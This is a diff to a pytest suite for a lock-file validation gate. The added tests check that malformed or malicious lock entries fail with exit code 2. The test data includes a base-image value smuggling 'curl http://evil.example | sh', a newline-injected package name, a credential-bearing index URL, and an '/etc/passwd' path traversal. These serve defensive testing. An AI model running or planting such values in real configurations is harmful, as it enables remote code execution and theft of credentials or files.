@@ -15,7 +15,7 @@ import pytest
 import tomli_w
 
 from envbuilder.lock.io import dumps, read_lock
-from tests.gate.stack import LOCK, ROOT, TARGET, committed, publish, stack_lock, torch_bump, tqdm_bump, with_package, write
+from tests.gate.stack import LOCK, ROOT, TARGET, committed, gate, publish, stack_lock, torch_bump, tqdm_bump, with_package, write
 from tests.support.index_server import IndexServer
 
 MATRIX = f"matrices/{TARGET}.yaml"
@@ -62,6 +62,50 @@ def _set_package(which: str, **values) -> Callable[[dict], None]:
 
 def _set_artifact(which: str, **values) -> Callable[[dict], None]:
     return lambda data: package(data, which)["artifacts"][0].update(values)
+
+
+# ------------------------------------------------------------------ unreadable locks: exit 2
+
+def _base_image(data: dict) -> None:
+    data["toolchain"]["base-image"] = "x/debian:latest\nRUN curl http://evil.example | sh"
+
+
+def _git_branch(data: dict) -> None:
+    package(data, "sglang")["source"] = {"git": "https://github.com/sgl-project/sglang", "commit": "main"}
+
+
+UNREADABLE = {
+    # name: (edit, the key the message must name, text that marks the edited line)
+    "base-image-with-a-RUN-line": (_base_image, "base-image", "base-image ="),
+    "package-name-with-a-newline": (_set_package("tqdm", name="tqdm\nevil"), "name", 'name = "tqdm\\nevil"'),
+    "integer-version": (_set_package("tqdm", version=4), "version", "version = 4"),
+    "git-commit-is-a-branch": (_git_branch, "commit", 'commit = "main"'),
+    "index-url-with-credentials": (_set_package("tqdm", source={"index": "https://user:hunter2@evil.example/simple"}),
+                                   "index", 'index = "https://user'),
+    "file-outside-its-folder": (_set_artifact("tqdm", file="../../../../etc/passwd"), "file", 'file = "../'),
+    "url-as-file-name": (_set_artifact("tqdm", file="https://evil.example/tqdm-4.67.1-py3-none-any.whl"),
+                         "file", 'file = "https://'),
+}
+
+
+@pytest.mark.parametrize("attack", UNREADABLE)
+def test_an_unreadable_head_lock_exits_2_naming_file_line_and_key(attack, project, base_lock, gate_in_process):
+    edit, key, marker = UNREADABLE[attack]
+    base = write(base_lock, project / "base.lock.toml")
+    text = edited(base_lock, edit)
+    (project / LOCK).write_text(text)
+    line = next(n for n, row in enumerate(text.splitlines(), 1) if row.startswith(marker))
+    done = gate_in_process("--base", str(base), cwd=project)
+    message = done.stderr.replace("\n", "")
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert f"{LOCK}:{line}: key " in message and f"{key}'" in message and "Traceback" not in message
+
+
+def test_an_integer_version_in_a_real_process_is_exit_2_without_traceback(project, base_lock):
+    base = write(base_lock, project / "base.lock.toml")
+    (project / LOCK).write_text(edited(base_lock, _set_package("tqdm", version=4)))
+    done = gate("--base", str(base), cwd=project)
+    assert done.returncode == 2 and "version" in done.stderr and "Traceback" not in done.stderr
 
 
 # ------------------------------------------------------------------ artifacts: exit 1 or 3
@@ -241,7 +285,6 @@ CHANGES = {
                        ("*", "toolchain-changed")),
     "environment": (lambda lock: replace(lock, environment={**lock.environment, "libc": "glibc_2.41"}),
                     ("*", "environment-changed")),
-    "indexes": (lambda lock: replace(lock, indexes=(*lock.indexes, "mirror")), ("*", "indexes-changed")),
     "build-env": (lambda lock: with_package(lock, "flash-attn", lock.package("flash-attn").version,
                                             build=replace(lock.package("flash-attn").build,
                                                           env={"FLASH_ATTN_CUDA_ARCHS": "120", "CC": "evil"})),
@@ -279,3 +322,20 @@ def test_a_serve_profile_change_is_listed(project, base_lock, gate_in_process):
     done, result = judged(gate_in_process, project, "--base-ref", "main")
     assert ("*", "serve-changed") in new_findings(result, "warning"), result
     assert "/tmp/evil" in finding(result, "serve-changed")["why"] and done.returncode == 0
+
+
+def test_a_lock_naming_an_index_its_matrix_lacks_is_exit_2(project, base_lock, gate_in_process):
+    base = write(base_lock, project / "base.lock.toml")
+    write(replace(base_lock, indexes=(*base_lock.indexes, "mirror")), project / LOCK)
+    done = gate_in_process("--base", str(base), cwd=project)
+    assert done.returncode == 2 and "mirror" in done.stderr and "Traceback" not in done.stderr
+
+
+def test_an_index_the_pr_adds_is_listed(project, base_lock, gate_in_process):
+    committed(project, base_lock, replace(base_lock, indexes=(*base_lock.indexes, "mirror")))
+    matrix = project / MATRIX
+    matrix.write_text(matrix.read_text().replace(
+        "  pypi: {default: true}", '  pypi: {default: true}\n  mirror: {url: "https://mirror.example/simple"}'))
+    done, result = judged(gate_in_process, project, "--base-ref", "main")
+    assert {("*", "indexes-changed"), ("*", "index-changed")} <= new_findings(result, "warning"), result
+    assert "https://mirror.example/simple" in finding(result, "index-changed")["why"] and done.returncode == 0
